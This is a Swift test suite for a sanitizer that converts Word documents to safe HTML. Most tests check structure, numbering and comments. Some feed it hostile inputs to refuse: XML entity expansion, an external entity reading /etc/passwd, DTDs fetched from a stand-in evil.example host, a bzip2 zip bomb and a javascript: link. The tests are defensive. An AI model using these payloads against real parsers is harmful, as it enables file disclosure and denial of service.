import Core
import HTMLSanitizer
import Testing

/// What is shown of a Word document.
@Suite("Word documents")
struct WordTests {
    private let sanitizer = AllowListSanitizer()

    @Test("keeps headings, emphasis and tables")
    func keepsStructure() async throws {
        let document = try await document(
            """
            <w:p><w:pPr><w:pStyle w:val="Kop1"/></w:pPr><w:r><w:t>Lease</w:t></w:r></w:p>
            <w:p><w:r><w:t xml:space="preserve">The </w:t></w:r><w:r><w:rPr><w:b/><w:i w:val="0"/></w:rPr><w:t>tenant</w:t></w:r>
            <w:r><w:t xml:space="preserve"> pays &lt;rent&gt;</w:t><w:br/><w:t>monthly</w:t></w:r></w:p>
            <w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>May</w:t></w:r></w:p></w:tc></w:tr></w:tbl>
            """
        )

        #expect(
            document.body.markup == """
                <h1>Lease</h1><p>The <strong>tenant</strong> pays &lt;rent&gt;<br>monthly</p>\
                <table><tbody><tr><td colspan="2"><p>May</p></td></tr></tbody></table>
                """
        )
        #expect(document.title == "Lease of 12 May")
    }

    @Test("writes out the numbers that Word computes")
    func writesNumbers() async throws {
        func clause(_ level: Int, _ text: String) -> String {
            """
            <w:p><w:pPr><w:numPr><w:ilvl w:val="\(level)"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>\(text)</w:t></w:r></w:p>
            """
        }
        let document = try await document(
            clause(0, "Rent") + clause(1, "When") + clause(1, "How") + clause(2, "cash") + clause(2, "transfer")
                + clause(0, "Deposit") + clause(1, "How much")
        )

        #expect(
            document.body.text == """
                1. Rent
                1.1 When
                1.2 How
                (a) cash
                (b) transfer
                2. Deposit
                2.1 How much
                """
        )
    }

    @Test("makes lists of bullets")
    func makesLists() async throws {
        func bullet(_ level: Int, _ text: String) -> String {
            """
            <w:p><w:pPr><w:numPr><w:ilvl w:val="\(level)"/><w:numId w:val="2"/></w:numPr></w:pPr><w:r><w:t>\(text)</w:t></w:r></w:p>
            """
        }
        let document = try await document(
            bullet(0, "one") + bullet(1, "inner") + bullet(0, "two") + "<w:p><w:r><w:t>after</w:t></w:r></w:p>"
        )

        #expect(
            document.body.markup == "<ul><li>one</li><li><ul><li>inner</li></ul></li><li>two</li></ul><p>after</p>"
        )
    }

    @Test("shows tracked changes, footnotes and comments")
    func showsChanges() async throws {
        let document = try await document(
            """
            <w:p><w:r><w:t xml:space="preserve">Rent is </w:t></w:r><w:del w:author="A"><w:r><w:delText>900</w:delText></w:r></w:del>
            <w:ins w:author="A"><w:r><w:t>1000</w:t></w:r></w:ins><w:r><w:footnoteReference w:id="2"/></w:r>
            <w:r><w:commentReference w:id="0"/></w:r></w:p>
            """
        )

        #expect(
            document.body.markup == """
                <p>Rent is <del>900</del><ins>1000</ins><sup>[1][comment 1]</sup></p>\
                <hr><p>[1] Before tax.</p><hr><p>[comment 1] Ada, 2026-01-02: Why?</p>
                """
        )
    }

    @Test("shows pictures of the document, and fetches none from elsewhere")
    func showsPictures() async throws {
        let document = try await document(
            """
            <w:p><w:r><w:drawing><wp:docPr descr="A dot"/><a:blip r:embed="rId1"/></w:drawing></w:r>
            <w:r><w:drawing><wp:docPr descr="plan"/><a:blip r:link="rId2"/></w:drawing></w:r>
            <w:hyperlink r:id="rId2"><w:r><w:t>here</w:t></w:r></w:hyperlink>
            <w:hyperlink r:id="rId3"><w:r><w:t>there</w:t></w:r></w:hyperlink></w:p>
            """
        )

        #expect(document.body.markup.contains("<img src=\"data:image/gif;base64,R0lGODlhAQ==\" alt=\"A dot\">"))
        #expect(document.body.text == " [plan] here [https://evil.example/x]there")
        #expect(document.omissions.outsideImages == 1)
        #expect(document.omissions.scripts == 1)
    }

    @Test("goes on behind a text box")
    func textBox() async throws {
        let document = try await document(
            """
            <w:p><w:r><w:t>before</w:t></w:r><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>box</w:t></w:r></w:p></w:txbxContent></w:pict></w:r>
            <w:r><w:t>behind</w:t></w:r></w:p>
            """
        )

        #expect(document.body.text == "before\nbox\nbehind")
    }

    @Test(
        "refuses XML with entities of its own",
        arguments: [
            "<!DOCTYPE w [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;\">]><w>&c;</w>",
            "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>",
            "<!DOCTYPE w SYSTEM \"https://evil.example/x.dtd\"><w/>",
            "<!DOCTYPE w [<!ENTITY % p SYSTEM \"https://evil.example/x\"> %p;]><w/>",
        ]
    )
    func refusesEntities(xml: String) async {
        await #expect(throws: MarkupError.definesEntities) {
            try await sanitizer.document(fromWord: Self.zip(main: xml))
        }
    }

    @Test("refuses a file that unpacks to a huge one")
    func refusesBomb() async {
        var zip = ZipFile()
        // 129 MB of spaces under bzip2, in 115 bytes that claim to be a thousand.
        zip.members.append(
            ZipFile.Member(name: "word/document.xml", bytes: Self.bomb, method: 12, unpackedCount: 1_000, checksum: 0)
        )

        await #expect(throws: MarkupError.self) { try await sanitizer.document(fromWord: zip.bytes) }
        zip.members[0].unpackedCount = 129 * 1_048_576
        zip.members[0].checksum = 0x1329_5C36
        await #expect(throws: MarkupError.unpacksTooLarge(max: MarkupLimits.wordUnpackedBytesMax)) {
            try await sanitizer.document(fromWord: zip.bytes)
        }
    }

    @Test("refuses a file of more members than any document has")
    func refusesMembers() async {
        var zip = ZipFile()
        for number in 0...MarkupLimits.wordMembersMax { zip.add("word/media/\(number)", "") }

        await #expect(throws: MarkupError.tooManyParts(max: MarkupLimits.wordMembersMax)) {
            try await sanitizer.document(fromWord: zip.bytes)
        }
    }

    @Test("says why a file is no Word document that can be shown")
    func refusesOthers() async throws {
        let compound: [UInt8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]
        let package: [UInt8] = "EncryptedPackage".utf8.flatMap { [$0, 0 as UInt8] }
        var locked = ZipFile()
        locked.members.append(ZipFile.Member(name: "word/document.xml", bytes: [1, 2, 3], isEncrypted: true))
        var spreadsheet = ZipFile()
        spreadsheet.add("xl/workbook.xml", "<x/>")
        let whole = Self.zip(main: Self.main("<w:p/>"))

        for (bytes, error) in [
            ([], MarkupError.notOfKind), (Array("words".utf8), .notOfKind), (compound, .notOfKind),
            (compound + package, .encrypted), (locked.bytes, .encrypted), (spreadsheet.bytes, .notOfKind),
            (Array(whole.prefix(whole.count / 2)), .damaged), (Array("PK\u{3}\u{4}".utf8), .damaged),
            (Self.zip(main: "<w:p>"), .damaged), (Self.zip(main: ""), .damaged),
        ] as [([UInt8], MarkupError)] {
            await #expect(throws: error, "\(bytes.prefix(20))") { try await sanitizer.document(fromWord: bytes) }
        }
    }

    @Test("refuses elements nested without end")
    func refusesNesting() async {
        let deep = String(repeating: "<w:sdt>", count: 5_000)

        await #expect(throws: MarkupError.self) {
            try await sanitizer.document(fromWord: Self.zip(main: Self.main(deep)))
        }
    }

    @Test("shows what stands above and below the pages, each once")
    func showsPageEdges() async throws {
        func edge(_ element: String, _ text: String) -> String {
            "<w:\(element) \(Self.spaces)><w:p><w:r><w:t>\(text)</w:t></w:r></w:p></w:\(element)>"
        }
        var zip = ZipFile()
        zip.add("word/document.xml", Self.main("<w:p><w:r><w:t>Body</w:t></w:r></w:p>"))
        zip.add("word/header1.xml", edge("hdr", "Privileged"))
        zip.add("word/header2.xml", "<w:hdr \(Self.spaces)><w:p/></w:hdr>")
        zip.add("word/footer1.xml", edge("ftr", "Page"))
        zip.add(
            "word/_rels/document.xml.rels",
            """
            <Relationships><Relationship Id="a" Target="footer1.xml"/><Relationship Id="b" Target="header1.xml"/>
            <Relationship Id="c" Target="header1.xml"/><Relationship Id="d" Target="header2.xml"/>
            <Relationship Id="e" Target="header9.xml"/></Relationships>
            """
        )
        let markup = try await sanitizer.document(fromWord: zip.bytes).body.markup
        #expect(markup == "<p>Privileged</p><hr><p>Body</p><hr><p>Page</p>")
    }

    private func document(_ body: String) async throws -> SanitizedDocument {
        let document = try await sanitizer.document(fromWord: Self.zip(main: Self.main(body)))
        #expect(SafeMarkup(document.body.markup).complaints == [])
        return document
    }

    private static func main(_ body: String) -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <w:document \(spaces)><w:body>\(body)<w:sectPr><w:pgSz/></w:sectPr></w:body></w:document>
        """
    }

    private static func zip(main: String) -> [UInt8] {
        var zip = ZipFile()
        zip.add("word/document.xml", main)
        zip.add("docProps/core.xml", "<c xmlns:dc=\"d\"><dc:title>Lease of 12 May</dc:title></c>")
        zip.add(
            "word/styles.xml",
            "<w:styles \(spaces)><w:style w:styleId=\"Kop1\"><w:name w:val=\"heading 1\"/></w:style></w:styles>"
        )
        zip.add("word/numbering.xml", numbering)
        zip.add(
            "word/footnotes.xml",
            """
            <w:footnotes \(spaces)><w:footnote w:id="-1"><w:p/></w:footnote><w:footnote w:id="2"><w:p><w:r><w:footnoteRef/></w:r>
            <w:r><w:t>Before tax.</w:t></w:r></w:p></w:footnote><w:footnote w:id="3"><w:p><w:r><w:t>not cited</w:t></w:r></w:p></w:footnote>
            </w:footnotes>
            """
        )
        zip.add(
            "word/comments.xml",
            """
            <w:comments \(spaces)><w:comment w:id="0" w:author="Ada" w:date="2026-01-02"><w:p><w:r><w:t>Why?</w:t></w:r></w:p></w:comment>
            </w:comments>
            """
        )
        zip.add(
            "word/_rels/document.xml.rels",
            """
            <Relationships><Relationship Id="rId1" Target="media/image1.png"/>
            <Relationship Id="rId2" Target="https://evil.example/x" TargetMode="External"/>
            <Relationship Id="rId3" Target="javascript:alert(1)" TargetMode="External"/></Relationships>
            """
        )
        zip.add("word/media/image1.png", "GIF89a\u{1}")
        return zip.bytes
    }

    private static let spaces = """
        xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:wp="wp" xmlns:a="a" xmlns:r="r"
        """

    private static let numbering = """
        <w:numbering \(spaces)><w:abstractNum w:abstractNumId="7">
        <w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>
        <w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1.%2"/></w:lvl>
        <w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="(%3)"/></w:lvl>
        </w:abstractNum><w:abstractNum w:abstractNumId="8">
        <w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="bullet"/></w:lvl>
        </w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="7"/></w:num><w:num w:numId="2"><w:abstractNumId w:val="8"/></w:num>
        </w:numbering>
        """

    private static let bomb: [UInt8] = [
        0x42, 0x5A, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0xB5, 0x22, 0x65, 0xBF, 0x01, 0x5F,
        0x8E, 0x10, 0x00, 0xC0, 0x00, 0x00, 0x08, 0x20, 0x00, 0x30, 0x80, 0x4D, 0x46, 0x42, 0xA0, 0x25,
        0xA9, 0x0A, 0x80, 0x97, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0xB5, 0x22, 0x65, 0xBF, 0x01, 0x5F,
        0x8E, 0x10, 0x00, 0xC0, 0x00, 0x00, 0x08, 0x20, 0x00, 0x30, 0x80, 0x4D, 0x46, 0x42, 0xA0, 0x25,
        0xA9, 0x0A, 0x80, 0x97, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0x87, 0xED, 0xD3, 0x12, 0x01, 0x4C,
        0xF1, 0x30, 0x00, 0x84, 0x00, 0x40, 0x00, 0x00, 0x08, 0x20, 0x00, 0x30, 0xCC, 0x09, 0xAA, 0x69,
        0xD5, 0xA0, 0x85, 0x14, 0xB6, 0xA8, 0x21, 0x45, 0x2F, 0x17, 0x72, 0x45, 0x38, 0x50, 0x90, 0x39,
        0x20, 0x8E, 0x93,
    ]
}
